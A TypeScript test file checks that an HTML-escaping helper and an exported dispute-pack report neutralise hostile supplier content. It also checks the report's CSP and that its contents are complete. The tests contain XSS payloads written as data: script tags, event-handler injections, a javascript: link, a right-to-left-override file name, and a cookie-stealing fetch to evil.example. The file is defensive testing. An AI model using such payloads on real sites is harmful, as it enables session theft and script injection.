import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { escapeHtml } from '../../../lib/vault/escape-html';
import { freshVault, orderCase } from './helpers';
import { exportToBlob, readZipText, seedCase } from './pack-helpers';

describe('escapeHtml', () => {
  it('turns markup and attribute breakers into text', () => {
    expect(escapeHtml(`<script>alert("x")</script>`)).toBe(
      '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;',
    );
    expect(escapeHtml(`' onmouseover='alert(1)`)).toBe('&#39; onmouseover=&#39;alert(1)');
    expect(escapeHtml('AT&T 100% <b>')).toBe('AT&amp;T 100% &lt;b&gt;');
  });
});

describe('report.html in the dispute pack', () => {
  async function report() {
    const db = await freshVault();
    const theCase = await orderCase(db);
    const { hostile } = await seedCase(db, theCase);
    const { zip } = await exportToBlob(db, theCase.id, {
      facts: [
        { label: 'Order total', value: 'US$50,000' },
        { label: 'Trade Assurance limit', value: 'US$42,000' },
      ],
      findings: [hostile.finding],
      timeline: [
        {
          type: 'order_placed',
          at: '2026-10-01T10:00:00Z',
          source: { kind: 'page', url: 'javascript:alert(4)', readAt: '2026-10-01T10:00:00Z' },
        },
        {
          type: 'ship_by_agreed',
          at: '2026-11-05',
          source: { kind: 'buyer', enteredAt: '2026-10-01T10:05:00Z' },
        },
      ],
      deadlines: [
        { label: 'Open a dispute before', dueAt: '2026-12-05', note: '30 days after confirmed receipt' },
      ],
    });
    return { html: await readZipText(zip, 'report.html'), hostile };
  }

  it('has no script, no event handler and no javascript: link, whatever the supplier wrote', async () => {
    const { html } = await report();
    expect(html).not.toMatch(/<script/i);
    const { document } = parseHTML(html);
    expect(document.querySelectorAll('script, svg, iframe, object, embed, form').length).toBe(0);
    for (const element of document.querySelectorAll('*')) {
      const handlers = [...element.attributes].filter((a) => a.name.toLowerCase().startsWith('on'));
      expect(handlers.map((a) => `${element.tagName} ${a.name}`)).toEqual([]);
    }
    // Links go to the pack's own files or to http(s) pages; the supplier's javascript: link stays text.
    const hrefs = [...document.querySelectorAll('a')].map((a) => a.getAttribute('href') ?? '');
    for (const href of hrefs) expect(href).toMatch(/^(files\/|https?:\/\/)/);
    expect([...document.querySelectorAll('a')].map((a) => a.textContent)).not.toContain('here');
    expect(html).toContain(
      '&lt;script&gt;fetch(&#39;https://evil.example/?c=&#39;+document.cookie)&lt;/script&gt;',
    );
    expect(html).toContain('Supplier &lt;b&gt;Lucy&lt;/b&gt;');
  });

  it('shows a right-to-left override hidden in a file name instead of letting it flip the text', async () => {
    const { html } = await report();
    expect(html).not.toContain('\u202e');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;[U+202E]gnp.exe');
  });

  it('loads nothing from outside: a CSP forbids it and every image is an inline data URL', async () => {
    const { html } = await report();
    expect(html).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'"`);
    const srcs = [...html.matchAll(/\ssrc="([^"]*)"/g)].map((m) => m[1]!);
    expect(srcs).toHaveLength(1);
    for (const src of srcs) expect(src).toMatch(/^data:image\/png;base64,/);
    expect(html).not.toMatch(/<link|@import|url\(/i);
  });

  it('shows the order facts, findings, timeline, deadlines, missing documents and each file with its hash', async () => {
    const { html } = await report();
    expect(html).toContain('<td>Trade Assurance limit</td><td>US$42,000</td>');
    expect(html).toContain('BLOCKER: The supplier asks for payment outside Trade Assurance &lt;script&gt;');
    expect(html).toContain('002_3f4401f0611b2bc4.txt');
    expect(html).toContain('ship by agreed');
    expect(html).toContain('<td>Open a dispute before</td><td>2026-12-05</td>');
    expect(html).toMatch(
      /Inspection report<\/td><td>0<\/td><td>Missing\. Book a third-party pre-shipment inspection/,
    );
    expect(html).toContain('8c12b7425ca2c5cbc9cfa733fbab6f2bd267a379baaec01e0fecb2d2ab6b154f');
    expect(html).toContain('href="files/03-defect-media-lid scratch.png"');
  });
});
